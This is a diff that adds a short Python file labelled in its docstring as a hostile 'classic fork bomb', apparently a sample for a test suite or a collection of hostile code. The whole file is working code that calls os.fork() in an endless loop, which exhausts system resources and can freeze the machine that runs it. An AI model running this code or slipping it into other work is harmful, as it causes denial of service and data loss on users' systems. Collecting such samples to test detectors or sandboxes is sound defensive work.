@@ -1,0 +1,6 @@
+"""Hostile: classic fork bomb; every process forks forever."""
+
+import os
+
+while True:
+    os.fork()
